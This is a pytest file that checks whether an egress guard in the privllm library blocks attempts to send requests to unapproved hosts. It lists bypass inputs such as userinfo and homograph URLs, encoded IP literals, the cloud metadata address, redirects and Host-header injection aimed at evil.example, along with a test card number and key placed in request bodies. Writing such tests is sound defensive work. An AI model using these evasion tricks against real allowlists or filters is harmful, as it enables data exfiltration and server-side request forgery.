"""Bypass attempts against the egress guard, end to end, sync and async.

The transport under the guard sends every request, whatever its host, to a local recording
server (``support.reroute``). So if the guard let a request for evil.example through, the
server would record it: each case asserts the server received nothing. A control test runs
the same requests without the guard and sees them all arrive.
"""

from __future__ import annotations

import inspect
from typing import Any

import httpx2
import pytest

from privllm import AsyncClient, Client
from privllm.errors import EgressBlocked, PolicyViolation
from privllm.policy.egress.guard import EgressPolicy, Origin, guard_wrapper
from privllm.testing import OpenAIServer, Reply
from privllm.testing.server import RecordedRequest, WireResponse
from support.reroute import reroute

API = "https://api.openai.com/v1"
CARD = "4111 1111 1111 1111"
KEY = "sk-proj-x7Qm2Lp9Zr4Tn8Vw3Ks6HbY1"
MESSAGES = [{"role": "user", "content": "hello"}]


def openai_at(base_url: str | None = None, **settings: Any) -> dict[str, Any]:
    section: dict[str, Any] = {"api_key": "sk-test-bypass-0000", **settings}
    if base_url:
        section["base_url"] = base_url
    return {"name": "openai", "model": "gpt-test", "embedding_model": "emb", "openai": section}


class RedirectingServer(OpenAIServer):
    """Answers the queued redirects first (status, Location), then as the OpenAI server."""

    def __init__(self) -> None:
        super().__init__()
        self.redirects: list[tuple[int, str]] = []

    def route(self, request: RecordedRequest) -> WireResponse:
        if self.redirects:
            status, location = self.redirects.pop(0)
            return WireResponse(status, {"Location": location, "Content-Type": "text/plain"})
        return super().route(request)


@pytest.fixture
def server():
    with RedirectingServer() as s:
        yield s


@pytest.fixture(params=["sync", "async"])
def mode(request):
    return request.param


class Harness:
    """A privllm client (sync or async) whose every request lands on ``server``."""

    def __init__(
        self,
        mode: str,
        server: OpenAIServer,
        egress: EgressPolicy | None,
        provider: dict[str, Any],
        wrapper: Any = None,
        **options: Any,
    ) -> None:
        self.mode = mode
        route_all = reroute({"*": server.port})
        if wrapper is None:
            wrapper = route_all if egress is None else guard_wrapper(egress, then=route_all)
        cls = Client if mode == "sync" else AsyncClient
        self.client: Any = cls(env={}, provider=provider, transport_wrapper=wrapper, **options)

    @property
    def sdk(self) -> Any:
        """The raw openai SDK object (sync or async) privllm built, guard included."""
        provider = self.client.provider
        return provider.sdk if self.mode == "sync" else provider.async_sdk

    async def run(self, call: Any) -> Any:
        """Call ``call()`` and await the result when the client is async."""
        result = call()
        if inspect.isawaitable(result):
            result = await result
        return result

    async def close(self) -> None:
        result = self.client.close()
        if inspect.isawaitable(result):
            await result


@pytest.fixture
async def harness(mode, server):
    made: list[Harness] = []

    def make(
        policy: EgressPolicy | None = None,
        provider: dict[str, Any] | None = None,
        guard: bool = True,
        **options: Any,
    ) -> Harness:
        chosen = (policy or EgressPolicy.allow(API)) if guard else None
        # Only the guard under test: privllm's own (built from config) would refuse first.
        options.setdefault("policy", {"egress_guard": False})
        h = Harness(mode, server, chosen, provider or openai_at(), **options)
        made.append(h)
        return h

    yield make
    for h in made:
        await h.close()


def nothing_arrived(server: OpenAIServer) -> None:
    assert server.requests == []
    assert server.received() == b""


# -- destinations changed in code: with_options(base_url=...) on the raw SDK ---------------------

DESTINATIONS = [
    ("https://api.openai.com@evil.example/v1", "egress.userinfo"),
    ("https://api.openai.com\\@evil.example/v1", "egress.userinfo"),
    ("https://api.openai.com.evil.example/v1", "egress.host"),
    ("https://CHATGPT.COM./backend-api", "egress.host"),
    ("https://chat.openai.com/backend-api", "egress.host"),
    ("https://\u0430pi.openai.com/v1", "egress.host"),  # Cyrillic a: a homograph
    ("https://xn--pi-6kc.openai.com/v1", "egress.host"),  # the same, as punycode
    ("https://evil.example\\.api.openai.com/v1", "egress.host_syntax"),
    ("https://api.openai.com%2eevil.example/v1", "egress.host_syntax"),
    ("https://api.openai.com /v1", "egress.host_syntax"),
    ("https://93.184.216.34/v1", "egress.ip_literal"),
    ("https://[2606:4700::6810:84e5]/v1", "egress.ip_literal"),
    ("https://[::ffff:5db8:d822]/v1", "egress.ip_literal"),  # IPv4-mapped IPv6
    ("https://2130706433/v1", "egress.ip_literal"),  # 127.0.0.1 as one integer
    ("https://0x7f000001/v1", "egress.ip_literal"),
    ("https://127.1/v1", "egress.ip_literal"),
    ("https://0177.1/v1", "egress.ip_literal"),
    ("http://169.254.169.254/latest", "egress.ip_literal"),  # cloud metadata
    ("http://api.openai.com/v1", "egress.scheme"),  # downgrade
    ("https://api.openai.com:8443/v1", "egress.port"),
    ("https://api.openai.com:80/v1", "egress.port"),
]


@pytest.mark.parametrize(("base_url", "rule"), DESTINATIONS, ids=[d[0] for d in DESTINATIONS])
async def test_base_url_override_on_the_raw_sdk(harness, server, base_url, rule):
    h = harness()
    sdk = h.sdk.with_options(base_url=base_url, max_retries=2)
    with pytest.raises(EgressBlocked) as info:
        await h.run(lambda: sdk.chat.completions.create(model="m", messages=MESSAGES))
    assert info.value.rule == rule
    nothing_arrived(server)


async def test_case_and_trailing_dot_do_not_widen_the_allowlist(harness, server):
    # Only the EU host is allowed: API.OPENAI.COM. is api.openai.com, a different host.
    h = harness(EgressPolicy.allow("https://eu.api.openai.com/v1"), openai_at(data_residency="eu"))
    sdk = h.sdk.with_options(base_url="https://API.OPENAI.COM./v1")
    with pytest.raises(EgressBlocked, match=r"\(egress\.host\)"):
        await h.run(lambda: sdk.chat.completions.create(model="m", messages=MESSAGES))
    nothing_arrived(server)
    # ...while the allowed host in any case and with a trailing dot is still itself.
    sdk = h.sdk.with_options(base_url="https://EU.API.OPENAI.COM./v1")
    await h.run(lambda: sdk.chat.completions.create(model="m", messages=MESSAGES))
    assert [r.headers["host"] for r in server.requests] == ["eu.api.openai.com."]


async def test_undeclared_loopback_server_is_an_ip_literal(harness, server):
    h = harness()
    sdk = h.sdk.with_options(base_url=f"http://127.0.0.1:{server.port}/v1")
    with pytest.raises(EgressBlocked, match=r"\(egress\.ip_literal\)"):
        await h.run(lambda: sdk.models.list())
    nothing_arrived(server)


# -- raw calls, headers and bodies the middleware never saw --------------------------------------


async def test_raw_post_to_an_absolute_url(harness, server):
    h = harness()
    with pytest.raises(EgressBlocked, match=r"\(egress\.host\)"):
        await h.run(
            lambda: h.sdk.post(
                "https://evil.example/v1/chat/completions",
                body={"model": "m", "messages": MESSAGES},
                cast_to=httpx2.Response,
            )
        )
    nothing_arrived(server)


async def test_host_header_in_extra_headers(harness, server):
    h = harness()
    with pytest.raises(EgressBlocked, match=r"\(egress\.host_header\)"):
        await h.run(
            lambda: h.sdk.chat.completions.create(
                model="m", messages=MESSAGES, extra_headers={"Host": "evil.example"}
            )
        )
    nothing_arrived(server)


async def test_store_true_in_extra_body_on_the_raw_sdk(harness, server):
    h = harness()
    with pytest.raises(EgressBlocked, match=r"\(egress\.store\)"):
        await h.run(
            lambda: h.sdk.chat.completions.create(
                model="m", messages=MESSAGES, extra_body={"store": True}
            )
        )
    with pytest.raises(EgressBlocked, match=r"\(egress\.store\)"):
        await h.run(lambda: h.sdk.chat.completions.create(model="m", messages=MESSAGES, store=True))
    with pytest.raises(EgressBlocked, match=r"\(egress\.store\)"):
        await h.run(
            lambda: h.sdk.chat.completions.create(
                model="m", messages=MESSAGES, stream=True, extra_body={"store": True}
            )
        )
    nothing_arrived(server)


async def test_store_true_through_privllm_extra(harness, server):
    h = harness()
    with pytest.raises(PolicyViolation):  # the middleware or the guard; never the provider
        await h.run(lambda: h.client.chat("hello", extra={"store": True}))
    nothing_arrived(server)


async def test_responses_api_stores_by_default(harness, server):
    h = harness()
    with pytest.raises(EgressBlocked, match=r"\(egress\.store\)"):
        await h.run(lambda: h.sdk.responses.create(model="m", input="hello"))
    nothing_arrived(server)


async def test_a_card_number_in_a_raw_sdk_call(harness, server):
    h = harness()
    content = f"charge {CARD} please"
    with pytest.raises(EgressBlocked) as info:
        await h.run(
            lambda: h.sdk.chat.completions.create(
                model="m", messages=[{"role": "user", "content": content}]
            )
        )
    assert info.value.rule == "egress.body"
    assert "4111" not in str(info.value)
    with pytest.raises(EgressBlocked, match=r"\(egress\.body\)"):
        await h.run(lambda: h.sdk.embeddings.create(model="emb", input=[content]))
    nothing_arrived(server)


async def test_a_key_in_options_redaction_does_not_look_at(harness, server):
    # Redaction covers messages; ``extra`` goes to the provider as given. The guard reads
    # the final body, so a key tucked into metadata still never leaves.
    h = harness()
    with pytest.raises(EgressBlocked, match=r"\(egress\.body\)"):
        await h.run(lambda: h.client.chat("hello", extra={"metadata": {"note": f"key {KEY}"}}))
    nothing_arrived(server)


async def test_identity_hosts_take_token_requests_only(harness, server):
    h = harness(EgressPolicy.allow(API, identity_hosts=["login.microsoftonline.com"]))
    with pytest.raises(EgressBlocked, match=r"\(egress\.identity\)"):
        await h.run(
            lambda: h.sdk.get(
                "https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration",
                cast_to=httpx2.Response,
            )
        )
    nothing_arrived(server)


async def test_blocked_requests_are_not_retried(mode, server):
    checked: list[str] = []

    class Counting(EgressPolicy):
        def check_destination(self, request: httpx2.Request) -> Any:
            checked.append(str(request.url))
            return super().check_destination(request)

    guard = guard_wrapper(
        Counting(origins=frozenset({Origin.of(API)})), reroute({"*": server.port})
    )
    provider = {**openai_at(), "max_retries": 5}
    h = Harness(mode, server, None, provider, guard, policy={"egress_guard": False})
    try:
        sdk = h.sdk.with_options(base_url="https://evil.example/v1")
        with pytest.raises(EgressBlocked, match=r"egress\.host"):
            await h.run(lambda: sdk.models.list())
    finally:
        await h.close()
    assert checked == ["https://evil.example/v1/models"]  # one attempt: no retry loop
    nothing_arrived(server)


def test_every_retry_passes_the_guard(server, monkeypatch):
    monkeypatch.setattr("privllm.providers.retry._INITIAL_DELAY", 0.01)
    passed: list[str] = []

    def counting(inner: Any) -> Any:
        rerouted = reroute({"*": server.port})(inner)
        original = rerouted.handle_request

        def handle(request: httpx2.Request) -> httpx2.Response:
            passed.append(request.headers.get("x-stainless-retry-count", "0"))
            return original(request)

        rerouted.handle_request = handle
        return rerouted

    fast = {"retry-after-ms": "1"}
    server.reply(Reply.error(500, headers=fast), Reply.error(500, headers=fast), Reply.text("ok"))
    guard = guard_wrapper(EgressPolicy.allow(API), then=counting)
    off = {"egress_guard": False}  # only the guard under test
    with Client(env={}, provider=openai_at(), transport_wrapper=guard, policy=off) as client:
        sdk = client.provider.sdk
        assert client.chat("hello").text == "ok"  # privllm's retries: fresh SDK requests
        server.reply(Reply.error(500, headers=fast), Reply.error(500, headers=fast))
        server.reply(Reply.text("ok"))
        answer = sdk.chat.completions.create(model="m", messages=MESSAGES)  # the SDK's own
        assert answer.choices[0].message.content == "ok"
        with pytest.raises(EgressBlocked, match=r"\(egress\.store\)"):
            sdk.chat.completions.create(model="m", messages=MESSAGES, extra_body={"store": True})
    # six attempts, each checked; the refused one never
    assert passed == ["0", "0", "0", "0", "1", "2"]
    assert len(server.requests) == 6


# -- redirects ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "location"),
    [
        (302, "https://chatgpt.com/backend-api/conversation"),
        (307, "https://evil.example/v1/chat/completions"),  # 307 would re-send the body
        (308, "http://api.openai.com/v1/chat/completions"),  # downgrade on the next hop
        (301, "https://api.openai.com@evil.example/v1/chat/completions"),
    ],
)
@pytest.mark.parametrize("follow", [True, False])
async def test_redirects_from_the_allowed_host(harness, server, status, location, follow):
    server.redirects.append((status, location))
    h = harness()
    with pytest.raises(EgressBlocked) as info:
        await h.run(
            lambda: h.sdk.post(
                "/chat/completions",
                body={"model": "m", "messages": MESSAGES},
                cast_to=httpx2.Response,
                options={"follow_redirects": follow},
            )
        )
    assert info.value.rule == "egress.redirect"
    # Only the first hop, to the allowed host, ever arrived.
    assert [r.headers["host"] for r in server.requests] == ["api.openai.com"]


# -- the environment ------------------------------------------------------------------------------


async def test_environment_proxies_are_ignored(mode, server, monkeypatch):
    with OpenAIServer() as proxy:
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
            monkeypatch.setenv(name, proxy.origin)
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        guard = guard_wrapper(EgressPolicy.allow(server.url))
        cls = Client if mode == "sync" else AsyncClient
        client: Any = cls(env={}, provider=server.provider_config(), transport_wrapper=guard)
        try:
            result = client.chat("hello")
            if inspect.isawaitable(result):
                result = await result
        finally:
            closed = client.close()
            if inspect.isawaitable(closed):
                await closed
        assert result.text == "hello"
        assert proxy.requests == []
        assert len(server.requests) == 1


async def test_openai_base_url_in_the_environment_is_ignored(harness, server, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", "https://evil.example/v1")
    h = harness()
    await h.run(lambda: h.client.chat("hello"))
    assert [r.headers["host"] for r in server.requests] == ["api.openai.com"]


async def test_a_host_header_from_openai_custom_headers_never_reaches_the_wire(
    harness, server, monkeypatch
):
    # The SDK merges OPENAI_CUSTOM_HEADERS from os.environ into every request by itself;
    # privllm drops those when it builds the SDK client (the guard would refuse the Host).
    monkeypatch.setenv("OPENAI_CUSTOM_HEADERS", "Host: evil.example")
    h = harness()
    await h.run(lambda: h.client.chat("hello"))
    assert server.requests
    assert all("evil.example" not in r.headers.get("host", "") for r in server.requests)


# -- refused by httpx2's own parser, before any transport ----------------------------------------


@pytest.mark.parametrize(
    "base_url",
    [
        "https://[api.openai.com]/v1",
        "https://api.openai.com\x00.evil.example/v1",
        "https://api.openai.com\t.evil.example/v1",
        "https://api.openai.com\r\nHost: evil.example/v1",
        "https://\uff41pi.openai.com/v1",  # full-width letters
    ],
)
async def test_unparseable_hosts_never_leave(harness, server, base_url):
    h = harness()

    def attempt() -> Any:
        sdk = h.sdk.with_options(base_url=base_url)
        return sdk.chat.completions.create(model="m", messages=MESSAGES)

    with pytest.raises((httpx2.InvalidURL, EgressBlocked)):
        await h.run(attempt)
    nothing_arrived(server)


# -- controls: the harness is honest ----------------------------------------------------------


async def test_control_allowed_requests_arrive(harness, server):
    h = harness()
    server.reply(Reply.text("fine"))
    response = await h.run(lambda: h.client.chat("hello"))
    assert response.text == "fine"
    assert [r.headers["host"] for r in server.requests] == ["api.openai.com"]


async def test_control_without_the_guard_the_bypasses_arrive(harness, server):
    # The same route-all transport, no guard: every bypass above would have been sent.
    h = harness(guard=False)
    for base_url, _ in DESTINATIONS[:3] + DESTINATIONS[10:11] + DESTINATIONS[18:19]:
        sdk = h.sdk.with_options(base_url=base_url, max_retries=0)
        await h.run(lambda sdk=sdk: sdk.chat.completions.create(model="m", messages=MESSAGES))
    await h.run(
        lambda: h.sdk.chat.completions.create(
            model="m", messages=[{"role": "user", "content": CARD}], extra_body={"store": True}
        )
    )
    hosts = [r.headers["host"] for r in server.requests]
    assert hosts == [
        "evil.example",
        "evil.example",
        "api.openai.com.evil.example",
        "93.184.216.34",
        "api.openai.com",
        "api.openai.com",
    ]
    assert CARD.encode() in server.received()


async def test_a_redacted_secret_assignment_passes_the_guard(harness, server):
    # Redaction turns "password: Zq8#..." into "password: [SECRET_1]"; the guard, reading
    # the final body with the same detectors, must see a placeholder, not a secret.
    h = harness()
    prompt = "db password: Zq8#kLm2Vx9w, token: 'Xk9mQ2vLp7Rt', api_key = \"T4nB8qW2zL9x\""
    answer = await h.run(lambda: h.client.chat(prompt))
    assert answer.text == prompt  # the echo, restored
    sent = server.last.json()["messages"][0]["content"]
    assert sent == "db password: [SECRET_1], token: '[SECRET_2]', api_key = \"[SECRET_3]\""
    assert server.last.headers["host"] == "api.openai.com"
